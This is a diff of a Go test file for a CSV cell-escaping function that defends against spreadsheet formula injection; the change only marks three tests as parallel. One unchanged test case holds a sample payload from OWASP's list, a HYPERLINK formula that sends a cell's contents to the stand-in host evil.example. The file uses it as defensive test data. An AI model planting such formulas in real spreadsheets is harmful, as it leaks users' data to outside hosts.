@@ -8,6 +8,7 @@ import (
 )
 
 func TestCell(t *testing.T) {
+	t.Parallel()
 	cases := []struct{ in, want string }{
 		// OWASP's list.
 		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
@@ -75,6 +76,7 @@ func TestCell(t *testing.T) {
 // Unescape(Cell(s)) == s over every short string of the characters that
 // matter, so the form is reversible (a bundle can rely on it).
 func TestUnescapeInvertsCell(t *testing.T) {
+	t.Parallel()
 	alphabet := []string{"'", "=", "-", "+", "@", " ", "\t", "\r", "1", ".", "e", "a", "＝", "\u3000"}
 	var walk func(prefix string, depth int)
 	walk = func(prefix string, depth int) {
@@ -92,6 +94,7 @@ func TestUnescapeInvertsCell(t *testing.T) {
 }
 
 func TestWriter(t *testing.T) {
+	t.Parallel()
 	var b bytes.Buffer
 	w := NewWriter(&b)
 	rec := []string{"7", "=1+1", "-0.5", `a,"b"`, "@x"}
